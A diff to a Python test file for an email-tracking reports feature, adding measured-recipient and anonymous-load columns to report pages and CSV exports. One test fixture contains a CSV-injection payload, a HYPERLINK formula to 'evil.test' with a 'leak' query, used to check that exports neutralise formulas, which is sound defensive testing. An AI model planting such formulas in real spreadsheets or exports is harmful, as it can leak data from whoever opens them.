@@ -128,8 +128,9 @@ def test_the_emails_page_shows_the_same_numbers_linked_to_each_email(staff, data
     page = staff.get("/reports/emails")
     assert page.status_int == 200
     rows = [[cell.text.strip() for cell in row.select("td")] for row in page.html.select("table tbody tr")]
-    assert rows[2] == ["Spring launch", "sam", "2026-03-02 09:00", "4", "3", "2", "66.7%", "2", "66.7%", "4", "4", "0",
-                       "2026-03-04 08:00"]
+    # Each rate names its base; no recipient is unmeasured and no anonymous load was counted.
+    assert rows[2] == ["Spring launch", "sam", "2026-03-02 09:00", "4", "3", "3", "2", "66.7% of 3 measured recipients",
+                       "2", "66.7% of 3 measured recipients", "4", "4", "0", "2026-03-04 08:00", "0", "0", "0", "0"]
     assert page.html.select("table tbody tr")[2].select_one("a")["href"] == f"/emails/{data.emails['e1'].id}"
     assert page.html.select_one("th[aria-sort]").text.strip() == "Sent at ▼"
 
@@ -360,7 +361,7 @@ def test_the_activity_page_draws_an_accessible_svg_chart_beside_its_numbers(staf
     svg = page.html.select_one("svg")
     assert svg["role"] == "img"
     assert svg["aria-label"].startswith("Accesses and unique opens per day, 2026-03-01 to 2026-03-07 (UTC): "
-                                        "8 accesses by 5 recipients")
+                                        "8 accesses by 5 measured recipients")
     assert svg.select_one("title").text.startswith("Accesses and unique opens per day")
     bars = svg.select("rect > title")
     assert [bar.text for bar in bars][2] == "2026-03-03: 3 accesses, 2 unique opens"
@@ -368,7 +369,7 @@ def test_the_activity_page_draws_an_accessible_svg_chart_beside_its_numbers(staf
     heights = [float(rect["height"]) for rect in svg.select("rect") if rect.select_one("title")]
     assert heights[2] == heights[4] == max(heights) and heights[0] == 0  # 3 accesses on the 3rd and the 5th
     table = [[cell.text.strip() for cell in row.select("td")] for row in page.html.select(".activity tbody tr")]
-    assert table[2] == ["2026-03-03", "3", "2", "3"]
+    assert table[2] == ["2026-03-03", "3", "2", "3", "0"]  # and no anonymous load
     # Drawn on the server: nothing to run, nothing fetched.
     assert not svg.select("script") and "http" not in svg.decode().replace("http://www.w3.org/2000/svg", "")
 
@@ -381,35 +382,38 @@ def test_the_emails_csv_is_rfc_4180_utf8_with_formulas_neutralised(staff, data):
     assert response.content_type == "text/csv" and response.charset == "utf-8"
     assert response.headers["Content-Disposition"].startswith('attachment; filename="coretrack-emails-')
     assert response.body == (
-        '\ufeff"Subject","Sender","Sent at (UTC)","Recipients","Delivered","Opened","Open rate (%)",'
-        '"Loaded the image","Load rate (%)","Accesses","Likely-human opens","Clicks","Last access (UTC)"\r\n'
-        '"Spring launch","sam","2026-03-02 09:00:00","4","3","2","66.7","2","66.7","4","4","0",'
-        '"2026-03-04 08:00:00"\r\n'
-        '"\'=HYPERLINK(""http://evil.test/?leak"",""Click"")","admin","2026-03-03 15:00:00","2","2","2","100.0","2",'
-        '"100.0","3","3","0","2026-03-05 10:00:00"\r\n'
-        '"Spring follow-up","tess","2026-03-05 08:00:00","2","1","1","100.0","1","100.0","1","1","0",'
-        '"2026-03-05 09:30:00"\r\n'
+        '\ufeff"Subject","Sender","Sent at (UTC)","Recipients","Delivered","Measured recipients","Opened",'
+        '"Open rate (% of measured)","Loaded the image","Load rate (% of measured)","Accesses","Likely-human opens",'
+        '"Clicks","Last access (UTC)","Unmeasured recipients","Anonymous loads","Anonymous likely-human loads",'
+        '"Anonymous clicks"\r\n'
+        '"Spring launch","sam","2026-03-02 09:00:00","4","3","3","2","66.7","2","66.7","4","4","0",'
+        '"2026-03-04 08:00:00","0","0","0","0"\r\n'
+        '"\'=HYPERLINK(""http://evil.test/?leak"",""Click"")","admin","2026-03-03 15:00:00","2","2","2","2","100.0",'
+        '"2","100.0","3","3","0","2026-03-05 10:00:00","0","0","0","0"\r\n'
+        '"Spring follow-up","tess","2026-03-05 08:00:00","2","1","1","1","100.0","1","100.0","1","1","0",'
+        '"2026-03-05 09:30:00","0","0","0","0"\r\n'
     ).encode("utf-8")
 
 
 def test_the_csv_export_takes_the_same_filters_as_the_page(staff, data):
     body = staff.get("/reports/records.csv", params={"record_type": "account"}).body
     assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
-        ["Record", "Emails sent", "Opened", "Loaded the image", "Accesses", "Likely-human opens", "Last access (UTC)"],
+        ["Record", "Measured emails", "Opened", "Loaded the image", "Accesses", "Likely-human opens",
+         "Last access (UTC)"],
         ["Acme <Corp>", "2", "2", "2", "5", "5", "2026-03-05 09:30:00"],
         ["Globex", "1", "1", "1", "2", "2", "2026-03-05 09:00:00"],
     ]
     recipients = list(csv.reader(io.StringIO(
         staff.get("/reports/recipients.csv", params={"status": "failed"}).body.decode("utf-8-sig"))))
     assert recipients == [
-        ["Email", "Address", "Record type", "Related record", "Status", "Accesses", "Likely-human opens", "Clicks",
-         "First access (UTC)", "Last access (UTC)"],
-        ["Spring launch", "x@nowhere.test", "", "", "failed", "0", "0", "0", "", ""],
+        ["Email", "Address", "Record type", "Related record", "Status", "Reading measured", "Accesses",
+         "Likely-human opens", "Clicks", "First access (UTC)", "Last access (UTC)"],
+        ["Spring launch", "x@nowhere.test", "", "", "failed", "yes", "0", "0", "0", "", ""],
     ]
     activity = staff.get("/reports/activity.csv", params={**WEEK, "sender": "admin"}).body.decode("utf-8-sig")
     assert list(csv.reader(io.StringIO(activity)))[:4] == [
-        ["Time (UTC)", "Accesses", "Unique opens", "Likely-human opens"], ["2026-03-01", "0", "0", "0"],
-        ["2026-03-02", "0", "0", "0"], ["2026-03-03", "1", "1", "1"]]
+        ["Time (UTC)", "Accesses", "Unique opens", "Likely-human opens", "Anonymous loads"],
+        ["2026-03-01", "0", "0", "0", "0"], ["2026-03-02", "0", "0", "0", "0"], ["2026-03-03", "1", "1", "1", "0"]]
 
 
 def test_the_csv_link_on_a_page_carries_its_filters(staff, data):
